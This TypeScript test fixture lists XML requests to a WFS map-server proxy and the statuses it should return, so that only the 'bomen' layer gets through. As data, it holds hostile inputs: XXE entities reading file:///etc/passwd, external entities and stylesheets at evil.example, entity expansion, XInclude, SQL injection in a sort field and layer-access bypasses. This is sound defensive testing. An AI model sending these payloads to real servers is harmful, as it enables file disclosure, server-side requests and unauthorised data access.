import type { Sending } from "./methods.ts";

const namespaces = 'xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:fes="http://www.opengis.net/fes/2.0"';
const root = (name: string, inner: string, more = "") =>
  `<wfs:${name} service="WFS" version="2.0.0" ${namespaces} ${more}>${inner}</wfs:${name}>`;
const features = (inner: string, more = "") => root("GetFeature", inner, more);
const query = (inner: string, more = 'typeNames="bomen"') =>
  features(`<wfs:Query ${more}>${inner}</wfs:Query>`);
const filter = (inner: string) => query(`<fes:Filter>${inner}</fes:Filter>`);
const own = features('<wfs:Query typeNames="bomen"/>');
const stored = (id: string, inner: string) =>
  features(`<wfs:StoredQuery id="${id}">${inner}</wfs:StoredQuery>`);
const byId = "urn:ogc:def:query:OGC-WFS::GetFeatureById";

const refused: Record<string, string> = {
  "another layer": query("", 'typeNames="wijken"'),
  "another layer by its workspace": query("", 'typeNames="voorbeeld:wijken"'),
  "another layer by an older name": query("", 'typeName="wijken"'),
  "another layer behind the own": query("", 'typeNames="bomen wijken"'),
  "a join of own layers": query("", 'typeNames="bomen percelen"'),
  "another layer in a second query": features(
    '<wfs:Query typeNames="bomen"/><wfs:Query typeNames="wijken"/>',
  ),
  "another layer as an element of a schema": query("", 'typeNames="schema-element(wijken)"'),
  "another layer with a reference to a character": query("", 'typeNames="&#119;ijken"'),
  "another layer to describe": root("DescribeFeatureType", "<wfs:TypeName>wijken</wfs:TypeName>"),
  "another layer behind the own to describe": root(
    "DescribeFeatureType",
    "<wfs:TypeName>bomen</wfs:TypeName><wfs:TypeName>wijken</wfs:TypeName>",
  ),
  "another layer's feature": filter('<fes:ResourceId rid="wijken.1"/>'),
  "another layer's feature in an attribute": query("", 'typeNames="bomen" resourceId="wijken.1"'),
  "a function": filter('<fes:PropertyIsNull><fes:Function name="env"/></fes:PropertyIsNull>'),
  "a filter with a projection elsewhere": filter(
    '<fes:BBOX><gml:Envelope xmlns:gml="g" srsName="http://evil.example/"/></fes:BBOX>',
  ),
  "two filters": query("<fes:Filter/><fes:Filter/>"),
  "a property that is code": query("<wfs:PropertyName>env('a')</wfs:PropertyName>"),
  "an order that is code": query(
    "<fes:SortBy><fes:SortProperty><fes:ValueReference>a desc, (select 1)</fes:ValueReference></fes:SortProperty></fes:SortBy>",
  ),
  "a projection elsewhere": query("", 'typeNames="bomen" srsName="http://evil.example/epsg"'),
  "a format that runs scripts": features('<wfs:Query typeNames="bomen"/>', 'outputFormat="text/html"'),
  "references elsewhere": features('<wfs:Query typeNames="bomen"/>', 'resolve="remote"'),
  "the path of references": features('<wfs:Query typeNames="bomen"/>', 'resolvePath="wijken"'),
  "parameters of a view": features('<wfs:Query typeNames="bomen"/>', 'viewParams="a:1"'),
  "an attribute twice in two cases": features('<wfs:Query typeNames="bomen" TYPENAMES="wijken"/>'),
  "a document type": `<!DOCTYPE a>${own}`,
  "an entity in a file": `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${query("", 'typeNames="&x;"')}`,
  "an entity elsewhere": `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>${own}`,
  "entities that grow": `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>${query("&c;")}`,
  CDATA: query("<![CDATA[<wfs:Query typeNames='wijken'/>]]>"),
  "an instruction": `<?xml-stylesheet href="http://evil.example"?>${own}`,
  "another encoding": `<?xml version="1.0" encoding="UTF-7"?>${own}`,
  "an inclusion": features('<xi:include xmlns:xi="x" href="file:///etc/passwd"/>'),
  "a change": root("Transaction", '<wfs:Delete typeName="bomen"/>'),
  "a lock": root("LockFeature", '<wfs:Query typeNames="bomen"/>'),
  "a query to store": root("CreateStoredQuery", ""),
  "a request of no standard": root("Reload", ""),
  SOAP: `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${own}</s:Body></s:Envelope>`,
  "a stored query of the map server's own": stored("urn:example:alles", ""),
  "a stored query that names another layer": stored(
    byId,
    '<wfs:Parameter name="typeNames">wijken</wfs:Parameter>',
  ),
  "a stored query by id, of another map server": stored(
    byId,
    '<wfs:Parameter name="id">bomen.1</wfs:Parameter>',
  ),
  "two queries, of another map server": features(
    '<wfs:Query typeNames="bomen"/><wfs:Query typeNames="percelen"/>',
  ),
  "values, of another map server": root(
    "GetPropertyValue",
    '<wfs:Query typeNames="bomen"/>',
    'valueReference="soort"',
  ),
  "more queries than anybody has": features('<wfs:Query typeNames="bomen"/>'.repeat(21)),
};

const unreadable: Record<string, string> = {
  "text that is no XML": "typenames=bomen",
  "XML that is not closed": "<wfs:GetFeature>",
  "two documents": own + own,
  "elements without end": "<a>".repeat(5000),
  "a control character": query("\u0001"),
  nothing: "",
};

const sending = (title: string, payload: string, status: number): Sending => ({
  title: `a body with ${title}`,
  target: "wfs",
  send: { method: "POST", payload, headers: { "content-type": "text/xml" } },
  status,
});

/** Requests in XML; what reaches the map server is the own layer alone. */
export const bodies: Sending[] = [
  ...Object.entries(refused).map(([title, body]) => sending(title, body, 403)),
  ...Object.entries(unreadable).map(([title, body]) => sending(title, body, 400)),
  sending("more than anybody writes", own + " ".repeat(300_000), 413),
  sending("the own layer", own, 200),
  {
    ...sending("the own layer, another one in the address", own, 200),
    target: "wfs?service=WMS&request=GetMap&layers=wijken&sld=http://evil.example/",
  },
];
